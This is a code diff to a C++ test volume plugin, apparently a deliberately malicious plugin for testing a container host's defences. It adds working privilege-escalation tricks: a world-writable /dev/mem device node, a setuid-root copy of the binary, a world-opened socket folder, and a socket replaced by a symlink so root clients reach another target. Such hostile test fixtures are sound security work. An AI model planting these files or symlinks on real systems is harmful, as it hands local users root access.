@@ -13,7 +13,10 @@
 #include <chrono>
 #include <csignal>
 #include <cstring>
+#include <fcntl.h>
 #include <string>
+#include <sys/stat.h>
+#include <sys/sysmacros.h>
 #include <thread>
 #include <unistd.h>
 
@@ -79,6 +82,40 @@ void waitHandlingSignals(const sigset_t &signals, Clock::time_point until, Clock
     }
 }
 
+void report(const std::string &what, bool done)
+{
+    logOut("testvolumeplugin: plant-run-files: " + what + (done ? ": done" : ": " + std::string(std::strerror(errno))));
+}
+
+// The plant-run-files attack: the socket folder is the one folder of the plugin that the host sees, so it leaves
+// there what a host user could use as root: /dev/mem's device node writable by all, a setuid-root copy of itself,
+// and the folder opened to all.
+void plantRunFiles(const std::string &socketPath)
+{
+    const std::string dir = socketPath.substr(0, socketPath.rfind('/'));
+    const std::string node = dir + "/mem";
+    report("mknod " + node, ::mknod(node.c_str(), S_IFCHR | 0666, ::makedev(1, 1)) == 0);
+    report("chmod 0666 " + node, ::chmod(node.c_str(), 0666) == 0);
+    const std::string setuid = dir + "/suid";
+    bool copied = false;
+    const int in = ::open("/proc/self/exe", O_RDONLY | O_CLOEXEC);
+    const int out = ::open(setuid.c_str(), O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0755);
+    if (in >= 0 && out >= 0) {
+        char buffer[65536];
+        ssize_t n = 0;
+        copied = true;
+        while ((n = ::read(in, buffer, sizeof buffer)) > 0)
+            copied = copied && ::write(out, buffer, size_t(n)) == n;
+    }
+    if (in >= 0)
+        ::close(in);
+    if (out >= 0)
+        ::close(out);
+    report("copy to " + setuid, copied);
+    report("chmod 04755 " + setuid, ::chmod(setuid.c_str(), 04755) == 0);
+    report("chmod 0755 " + dir, ::chmod(dir.c_str(), 0755) == 0);
+}
+
 std::string joinModes(const Options &options)
 {
     std::string text;
@@ -112,6 +149,7 @@ int main(int argc, char **argv)
            ", volume root " + options.volumeRoot);
 
     VolumeStore store(options.volumeRoot);
+    store.setSymlinkEscape(options.symlinkEscape);
     if (!store.load(&error)) {
         logErr("testvolumeplugin: " + error);
         return 1;
@@ -136,6 +174,16 @@ int main(int argc, char **argv)
         }
     }
 
+    if (!options.socketSymlinkTarget.empty()) {
+        // Whoever connects to our socket by its name as root reaches the target instead, with root's rights.
+        ::unlink(options.socketPath.c_str());
+        const bool linked = ::symlink(options.socketSymlinkTarget.c_str(), options.socketPath.c_str()) == 0;
+        logOut("testvolumeplugin: socket-symlink " + options.socketPath + " -> " + options.socketSymlinkTarget +
+               (linked ? "" : ": " + std::string(std::strerror(errno))));
+        for (;;)
+            waitHandlingSignals(signals, never, crashAt, [] {});
+    }
+
     if (options.slowStartSeconds > 0) {
         logOut("testvolumeplugin: slow-start, waiting " + std::to_string(options.slowStartSeconds) + " s");
         const Clock::time_point ready = started + std::chrono::duration_cast<Clock::duration>(
@@ -152,6 +200,8 @@ int main(int argc, char **argv)
     }
     std::thread([&server] { server.run(); }).detach();
     logOut("testvolumeplugin: listening on " + options.socketPath);
+    if (options.plantRunFiles)
+        plantRunFiles(options.socketPath);
 
     for (;;)
         waitHandlingSignals(signals, never, crashAt, [&server] { server.shutdown(); });
